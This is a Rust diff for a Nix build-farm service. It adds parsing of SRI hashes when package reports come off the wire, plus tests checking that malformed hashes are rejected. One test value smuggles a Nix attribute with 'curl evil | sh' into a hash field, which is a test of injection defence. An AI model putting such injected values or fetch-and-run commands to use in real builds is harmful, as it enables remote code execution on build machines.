@@ -4,7 +4,7 @@
 use crate::v1 as pb;
 use nixfarm_core::limits as lim;
 use nixfarm_core::report::{HashFix, HashMismatch, PackageKind, PackageReport, RepoCheck, Report};
-use nixfarm_core::{OutputPath, PackageStatus, RunState, Smoke, StorePath, StorePathError};
+use nixfarm_core::{OutputPath, PackageStatus, RunState, Smoke, Sri, StorePath, StorePathError};
 use std::collections::BTreeMap;
 
 /// A wire message whose fields do not make a domain value.
@@ -69,8 +69,8 @@ impl From<&PackageReport> for pb::PackageReport {
                 .iter()
                 .map(|m| pb::HashMismatch {
                     fod_drv: m.fod_drv.to_string(),
-                    specified: m.specified.clone(),
-                    got: m.got.clone(),
+                    specified: m.specified.to_string(),
+                    got: m.got.to_string(),
                     hints: m.hints.clone(),
                 })
                 .collect(),
@@ -82,8 +82,8 @@ impl From<&PackageReport> for pb::PackageReport {
                     file: f.file.clone(),
                     line: f.line as u64,
                     attribute: f.attribute.clone(),
-                    old: f.old.clone(),
-                    new: f.new.clone(),
+                    old: f.old.to_string(),
+                    new: f.new.to_string(),
                 })
                 .collect(),
         }
@@ -115,9 +115,11 @@ impl TryFrom<pb::PackageReport> for PackageReport {
                 lim::MAX_HINT
             )));
         }
-        let bad_path = |what: &str, e: StorePathError| {
+        let bad = |what: &str, e: &dyn std::fmt::Display| {
             WireError(format!("package {}: {what}: {e}", lim::clip(&p.attr, 80)))
         };
+        let bad_path = |what: &str, e: StorePathError| bad(what, &e);
+        let sri = |what: &str, s: &str| Sri::parse(s).map_err(|e| bad(what, &e));
         let hash_mismatches = p
             .hash_mismatches
             .into_iter()
@@ -125,8 +127,8 @@ impl TryFrom<pb::PackageReport> for PackageReport {
                 Ok(HashMismatch {
                     fod_drv: StorePath::parse_drv(&m.fod_drv)
                         .map_err(|e| bad_path("a hash mismatch's derivation", e))?,
-                    specified: m.specified,
-                    got: m.got,
+                    specified: sri("a hash mismatch's specified hash", &m.specified)?,
+                    got: sri("a hash mismatch's got hash", &m.got)?,
                     hints: m.hints,
                 })
             })
@@ -144,6 +146,19 @@ impl TryFrom<pb::PackageReport> for PackageReport {
                 Ok((o.name, path))
             })
             .collect::<Result<BTreeMap<_, _>, WireError>>()?;
+        let hash_fixes = p
+            .hash_fixes
+            .into_iter()
+            .map(|f| {
+                Ok(HashFix {
+                    old: sri("a hash fix's old hash", &f.old)?,
+                    new: sri("a hash fix's new hash", &f.new)?,
+                    file: f.file,
+                    line: usize::try_from(f.line).unwrap_or(0),
+                    attribute: f.attribute,
+                })
+            })
+            .collect::<Result<Vec<_>, WireError>>()?;
         Ok(PackageReport {
             kind: PackageKind::of(&p.attr),
             attr: p.attr,
@@ -160,17 +175,7 @@ impl TryFrom<pb::PackageReport> for PackageReport {
             agent: p.agent,
             failed_dependency: p.failed_dependency,
             hash_mismatches,
-            hash_fixes: p
-                .hash_fixes
-                .into_iter()
-                .map(|f| HashFix {
-                    file: f.file,
-                    line: usize::try_from(f.line).unwrap_or(0),
-                    attribute: f.attribute,
-                    old: f.old,
-                    new: f.new,
-                })
-                .collect(),
+            hash_fixes,
             log_tail: p.log_tail,
             smoke,
         })
@@ -207,6 +212,9 @@ impl TryFrom<pb::Report> for Report {
 mod tests {
     use super::*;
 
+    const FAKE: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
+    const GOT: &str = "sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=";
+
     fn path(base: &str) -> String {
         format!("/nix/store/{}-{base}", "0".repeat(32))
     }
@@ -230,16 +238,16 @@ mod tests {
                 .into(),
                 hash_mismatches: vec![HashMismatch {
                     fod_drv: StorePath::parse_drv(&path("src.drv")).unwrap(),
-                    specified: "sha256-A".into(),
-                    got: "sha256-B".into(),
+                    specified: Sri::parse(FAKE).unwrap(),
+                    got: Sri::parse(GOT).unwrap(),
                     hints: vec!["rev".into()],
                 }],
                 hash_fixes: vec![HashFix {
                     file: "pkgs/a.nix".into(),
                     line: 12,
                     attribute: "hash".into(),
-                    old: "sha256-A".into(),
-                    new: "sha256-B".into(),
+                    old: Sri::parse(FAKE).unwrap(),
+                    new: Sri::parse(GOT).unwrap(),
                 }],
                 ..Default::default()
             });
@@ -274,12 +282,17 @@ mod tests {
             ("output", path("bad name\u{1b}[2J")),
             ("fod_drv", path("src")),
             ("fod_drv", "/nix/store/y-src.drv".to_string()),
+            ("got", "sha256-B".to_string()),
+            ("got", format!("{GOT}\"; postPatch = \"curl evil | sh")),
+            ("new", "lib.fakeHash".to_string()),
         ] {
             let mut bad = wire.clone();
             let p = &mut bad.packages[0];
             match field {
                 "drv_path" => p.drv_path = value.clone(),
                 "output" => p.outputs[0].path = value.clone(),
+                "got" => p.hash_mismatches[0].got = value.clone(),
+                "new" => p.hash_fixes[0].new = value.clone(),
                 _ => p.hash_mismatches[0].fod_drv = value.clone(),
             }
             let e = Report::try_from(bad).expect_err(&value);
